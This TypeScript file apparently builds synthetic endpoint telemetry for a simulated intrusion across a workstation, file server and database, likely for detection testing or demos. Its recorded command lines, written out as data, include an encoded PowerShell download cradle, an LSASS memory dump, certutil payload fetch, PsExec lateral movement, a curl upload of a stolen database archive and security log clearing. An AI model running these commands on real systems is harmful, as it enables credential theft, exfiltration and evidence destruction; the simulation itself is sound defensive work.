import type { ProcessRecord } from "../domain/index.js";
import type { Catalogue, Image } from "./catalogue.js";
import type { HostRecorder, Start } from "./recorder.js";
import { INTRUSION } from "./story.js";
import type { WindowsTree } from "./windows.js";

/** A host of the intrusion. */
export interface Stage {
  recorder: HostRecorder;
  tree: WindowsTree;
}

const MINUTE = 60_000;
const RUN_KEY =
  "\\registry\\user\\s-1-5-21-3623811015-3361044348-30300820-1131\\software\\microsoft\\windows\\currentversion\\run";

/** 09:41 UTC of the last weekday before `now`. */
export function intrusionStart(now: number): number {
  const day = 86_400_000;
  let midnight = now - (now % day) - day;
  while ([0, 6].includes(new Date(midnight).getUTCDay())) midnight -= day;
  return midnight + (9 * 60 + 41) * MINUTE;
}

/** Adds the intrusion to the histories of three hosts. Returns how many processes it took. */
export function intrude(
  catalogue: Catalogue,
  now: number,
  stages: { workstation: Stage; fileServer: Stage; database: Stage },
): number {
  const recorders = [stages.workstation.recorder, stages.fileServer.recorder, stages.database.recorder];
  const before = recorders.reduce((total, recorder) => total + recorder.count, 0);
  const attack = new Attack(catalogue, intrusionStart(now));
  attack.phish(stages.workstation);
  attack.moveToFileServer(stages.workstation, stages.fileServer);
  attack.moveToDatabase(stages.fileServer, stages.database);
  return recorders.reduce((total, recorder) => total + recorder.count, -before);
}

class Attack {
  readonly #catalogue: Catalogue;
  readonly #start: number;
  readonly #beacon: Image;
  readonly #beaconOnServer: Image;
  readonly #psexec: Image;
  readonly #psexesvc: Image;
  #implant: ProcessRecord | undefined;

  constructor(catalogue: Catalogue, start: number) {
    this.#catalogue = catalogue;
    this.#start = start;
    this.#beacon = catalogue.add("c:\\users\\public\\libraries\\onesyncsvc.exe", "intrusion", {
      os_type: "Windows",
      original_filename: "onesyncsvc.exe",
      internal_name: "onesyncsvc",
      file_desc: "OneSync Service",
      file_version: "1.0.0.0",
      product_name: "OneSync",
      orig_mod_len: 36_864,
      copied_mod_len: 36_864,
      observed_filename: ["c:\\users\\public\\libraries\\onesyncsvc.exe", "c:\\windows\\temp\\onesyncsvc.exe"],
      server_added_timestamp: start + 9 * MINUTE,
      alliance: { ...virusTotal(start), alliance_score_soc: 90, alliance_data_soc: ["soc-onesync"] },
    });
    // The same file under its other name: one record, two places.
    this.#beaconOnServer = { ...this.#beacon, path: "c:\\windows\\temp\\onesyncsvc.exe" };
    const sysinternals = {
      os_type: "Windows" as const,
      company_name: "Sysinternals - www.sysinternals.com",
      product_name: "Sysinternals PsExec",
      file_version: "2.43",
      digsig_publisher: "Microsoft Corporation",
      digsig_issuer: "Microsoft Code Signing PCA 2011",
      digsig_sign_time: Date.UTC(2023, 3, 11, 17, 2),
    };
    this.#psexec = catalogue.add("c:\\windows\\temp\\psexec.exe", "intrusion", {
      ...sysinternals,
      original_filename: "psexec.c",
      file_desc: "Execute processes remotely",
    });
    this.#psexesvc = catalogue.add("c:\\windows\\psexesvc.exe", "intrusion", {
      ...sysinternals,
      original_filename: "psexesvc.exe",
      file_desc: "PsExec Service",
    });
  }

  /** Mail, document, macro, first program, credentials. */
  phish({ recorder, tree }: Stage): void {
    const user = tree.user.slice(tree.user.indexOf("\\") + 1);
    const minutes = (count: number): number => this.#start + Math.round(count * MINUTE);
    const attachment = `c:\\users\\${user}\\appdata\\local\\microsoft\\windows\\inetcache\\content.outlook\\7k2qjx0d\\invoice_88213.docm`;
    const outlook = this.#run(recorder, tree.explorer, "outlook.exe", minutes(-38), "{}", 460, {
      username: tree.user,
      segments: 2,
    });
    recorder.netconn(outlook, minutes(-37), { ip: "198.18.12.40", port: 443, domain: "outlook.office365.com" });
    recorder.filemod(outlook, minutes(0), 8, attachment, { md5: "3f1d2a9c8b7e6d5c4b3a291807f6e5d4", filetype: 17 });
    const word = this.#run(recorder, outlook, "winword.exe", minutes(0.1), `{} /n "${attachment}" /o ""`, 25);
    recorder.modload(word, this.#catalogue.program("amsi.dll"), minutes(0.3));
    const office =
      "\\registry\\user\\s-1-5-21-3623811015-3361044348-30300820-1131\\software\\microsoft\\office\\16.0\\word";
    recorder.regmod(word, minutes(0.6), 2, `${office}\\security\\trusted documents\\trustrecords\\invoice_88213.docm`);

    const script = `$c=New-Object Net.WebClient;$c.DownloadFile('https://${INTRUSION.domain}/s/v2.bin',$env:PUBLIC+'\\Libraries\\onesyncsvc.exe')`;
    const encoded = Buffer.from(script, "utf16le").toString("base64");
    const shell = this.#run(
      recorder,
      word,
      "powershell.exe",
      minutes(0.9),
      `powershell.exe -NoP -NonI -W Hidden -Enc ${encoded}`,
      6,
    );
    for (const name of ["system.management.automation.dll", "amsi.dll", "winhttp.dll"]) {
      recorder.modload(shell, this.#catalogue.program(name), minutes(0.92));
    }
    recorder.netconn(shell, minutes(1.1), { ip: INTRUSION.address, port: 443, domain: INTRUSION.domain });
    recorder.filemod(shell, minutes(1.2), 1, this.#beacon.path);
    recorder.filemod(shell, minutes(1.3), 8, this.#beacon.path, { md5: this.#beacon.record.md5, filetype: 1 });

    const implant = recorder.start(shell, this.#beacon, {
      at: minutes(1.5),
      cmdline: `"C:\\Users\\Public\\Libraries\\onesyncsvc.exe" -svc`,
      alliance: { ...virusTotal(this.#start), alliance_score_soc: 90 },
      segments: 3,
    });
    this.#implant = implant;
    recorder.modload(implant, this.#beacon, minutes(1.5));
    for (let i = 0; i < 45; i++) {
      recorder.netconn(implant, minutes(2 + 3 * i) + 137 * (i % 7), {
        ip: INTRUSION.address,
        port: 443,
        domain: INTRUSION.domain,
      });
    }
    recorder.regmod(implant, minutes(1.9), 2, `${RUN_KEY}\\onesync`);
    recorder.crossproc(implant, tree.explorer, minutes(2.4), "RemoteThread", 0x1fffff);

    this.#run(recorder, implant, "whoami.exe", minutes(4), "whoami  /groups /priv", 0.02);
    this.#run(recorder, implant, "ipconfig.exe", minutes(4.4), "ipconfig  /all", 0.02);
    this.#run(recorder, implant, "net.exe", minutes(5.1), 'net  group "domain admins" /domain', 0.03);
    this.#run(recorder, implant, "net.exe", minutes(5.8), "net  view /domain", 0.03);
    const dumpFile = "c:\\windows\\temp\\ms83.tmp";
    const dump = this.#run(
      recorder,
      implant,
      "rundll32.exe",
      minutes(19),
      `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${tree.lsass.pid} ${dumpFile} full`,
      0.2,
    );
    for (const name of ["comsvcs.dll", "dbghelp.dll", "dbgcore.dll"]) {
      recorder.modload(dump, this.#catalogue.program(name), minutes(19.01));
    }
    recorder.crossproc(dump, tree.lsass, minutes(19.02), "ProcessOpen", 0x1fffff);
    recorder.filemod(dump, minutes(19.05), 1, dumpFile);
    recorder.filemod(dump, minutes(19.15), 8, dumpFile, { md5: "b6d81b360a5672d80c27430f39153e2c" });
    recorder.filemod(implant, minutes(24), 4, dumpFile);
  }

  /** From the workstation to the file server, with the stolen account, over WinRM. */
  moveToFileServer(from: Stage, to: Stage): void {
    const minutes = (count: number): number => this.#start + Math.round(count * MINUTE);
    const implant = this.#implant;
    if (implant === undefined) throw new Error("the attack has not begun");
    const server = to.recorder.sensor;
    const client = from.recorder.sensor.interfaces[0]?.ip ?? "";
    const remoting = this.#run(
      from.recorder,
      implant,
      "powershell.exe",
      minutes(47),
      `powershell.exe -NoP -W Hidden -C "Enter-PSSession -ComputerName ${server.computer_name}"`,
      95,
    );
    const local = { local_port: 51_877 };
    from.recorder.netconn(
      remoting,
      minutes(47.1),
      { ip: server.interfaces[0]?.ip ?? "", port: 5985, domain: server.computer_dns_name },
      local,
    );

    const username = INTRUSION.stolenAccount;
    const provider = this.#run(
      to.recorder,
      to.tree.dcom,
      "wsmprovhost.exe",
      minutes(47.2),
      "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
      94,
      { username },
    );
    to.recorder.netconn(provider, minutes(47.2), { ip: client, port: 51_877 }, { outbound: false, local_port: 5985 });
    const encoded = Buffer.from("Get-SmbShare | Get-SmbShareAccess", "utf16le").toString("base64");
    const shell = this.#run(
      to.recorder,
      provider,
      "powershell.exe",
      minutes(48),
      `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoP -Enc ${encoded}`,
      90,
      { segments: 2 },
    );
    this.#run(to.recorder, shell, "whoami.exe", minutes(48.6), '"C:\\Windows\\system32\\whoami.exe"', 0.02);
    this.#run(to.recorder, shell, "net.exe", minutes(49.5), "net  view \\\\sql-01", 0.03);
    const fetch = this.#run(
      to.recorder,
      shell,
      "certutil.exe",
      minutes(55),
      `certutil.exe -urlcache -split -f https://${INTRUSION.domain}/s/t.png C:\\Windows\\Temp\\onesyncsvc.exe`,
      0.3,
    );
    to.recorder.netconn(fetch, minutes(55.05), { ip: INTRUSION.address, port: 443, domain: INTRUSION.domain });
    to.recorder.filemod(fetch, minutes(55.2), 8, this.#beaconOnServer.path, {
      md5: this.#beacon.record.md5,
      filetype: 1,
    });
    const second = to.recorder.start(shell, this.#beaconOnServer, {
      at: minutes(56),
      cmdline: "C:\\Windows\\Temp\\onesyncsvc.exe -svc",
      end: minutes(135),
      alliance: { ...virusTotal(this.#start), alliance_score_soc: 90 },
    });
    for (let i = 0; i < 20; i++) {
      to.recorder.netconn(second, minutes(56.2 + 3.9 * i), {
        ip: INTRUSION.address,
        port: 443,
        domain: INTRUSION.domain,
      });
    }
    to.recorder.filemod(second, minutes(60), 8, this.#psexec.path, { md5: this.#psexec.record.md5, filetype: 1 });
    this.#beacon.firstSeen = Math.min(this.#beacon.firstSeen, this.#beaconOnServer.firstSeen);
    this.#beacon.lastSeen = Math.max(this.#beacon.lastSeen, this.#beaconOnServer.lastSeen);
    this.#shellOnServer = shell;
  }
  #shellOnServer: ProcessRecord | undefined;

  /** From the file server to the database with PsExec; the ledger is packed and carried off, the traces wiped. */
  moveToDatabase(from: Stage, to: Stage): void {
    const minutes = (count: number): number => this.#start + Math.round(count * MINUTE);
    const target = to.recorder.sensor;
    const source = from.recorder.sensor.interfaces[0]?.ip ?? "";
    const psexec = from.recorder.start(this.#shellOnServer, this.#psexec, {
      at: minutes(71),
      end: minutes(128),
      cmdline: `C:\\Windows\\Temp\\psexec.exe -accepteula \\\\${target.computer_name} -s cmd.exe`,
    });
    from.recorder.netconn(
      psexec,
      minutes(71.02),
      { ip: target.interfaces[0]?.ip ?? "", port: 445, domain: target.computer_dns_name },
      { local_port: 52_014 },
    );

    const { recorder, tree } = to;
    recorder.filemod(tree.services, minutes(71.1), 1, this.#psexesvc.path);
    recorder.regmod(
      tree.services,
      minutes(71.12),
      1,
      "\\registry\\machine\\system\\currentcontrolset\\services\\psexesvc",
    );
    recorder.regmod(
      tree.services,
      minutes(71.12),
      2,
      "\\registry\\machine\\system\\currentcontrolset\\services\\psexesvc\\imagepath",
    );
    const service = recorder.start(tree.services, this.#psexesvc, {
      at: minutes(71.2),
      end: minutes(128),
      cmdline: "C:\\Windows\\PSEXESVC.exe",
      username: "SYSTEM",
    });
    recorder.netconn(service, minutes(71.2), { ip: source, port: 52_014 }, { outbound: false, local_port: 445 });
    const shell = this.#run(recorder, service, "cmd.exe", minutes(71.4), "cmd.exe", 56);
    this.#run(recorder, shell, "whoami.exe", minutes(72), "whoami", 0.02);
    const backup = "d:\\backup\\ledger.bak";
    const sql = this.#run(
      recorder,
      shell,
      "sqlcmd.exe",
      minutes(80),
      `sqlcmd  -S . -E -Q "BACKUP DATABASE ledger TO DISK='${backup}' WITH COPY_ONLY"`,
      9,
    );
    recorder.filemod(sql, minutes(80.4), 1, backup);
    const archive = "d:\\backup\\ledger.7z";
    const pack = this.#run(
      recorder,
      shell,
      "7z.exe",
      minutes(91),
      `"C:\\Program Files\\7-Zip\\7z.exe" a -mhe=on -pW1nter2025 ${archive} ${backup}`,
      12,
    );
    recorder.filemod(pack, minutes(91.1), 1, archive);
    recorder.filemod(pack, minutes(101), 8, archive, { md5: "9a0364b9e99bb480dd25e1f0284c8555", filetype: 69 });
    const { dropSite } = INTRUSION;
    const upload = this.#run(
      recorder,
      shell,
      "curl.exe",
      minutes(106),
      `curl.exe -s -T ${archive} https://${dropSite.domain}/u/8821`,
      17,
    );
    for (let i = 0; i < 6; i++)
      recorder.netconn(upload, minutes(106.05 + 2.5 * i), { ip: dropSite.address, port: 443, domain: dropSite.domain });
    recorder.filemod(shell, minutes(125), 4, archive);
    recorder.filemod(shell, minutes(125.1), 4, backup);
    this.#run(recorder, shell, "wevtutil.exe", minutes(126), "wevtutil.exe cl Security", 0.05);
  }

  #run(
    recorder: HostRecorder,
    parent: ProcessRecord,
    name: string,
    at: number,
    cmdline: string,
    lastsMinutes: number,
    options: Partial<Start> = {},
  ): ProcessRecord {
    const image = this.#catalogue.program(name);
    const started = recorder.start(parent, image, {
      at,
      end: at + Math.max(20, Math.round(lastsMinutes * MINUTE)),
      cmdline: cmdline.replace("{}", `"${image.path.replace("c:", "C:")}"`),
      ...options,
    });
    for (const library of ["ntdll.dll", "kernel32.dll", "kernelbase.dll"]) {
      recorder.modload(started, this.#catalogue.program(library), started.start + 3);
    }
    return started;
  }
}

function virusTotal(start: number): Record<string, number | string | string[]> {
  return {
    alliance_score_virustotal: 61,
    alliance_data_virustotal: ["onesyncsvc"],
    alliance_link_virustotal: "https://services.example/file/onesyncsvc",
    alliance_updated_virustotal: new Date(start + 300 * MINUTE).toISOString(),
  };
}
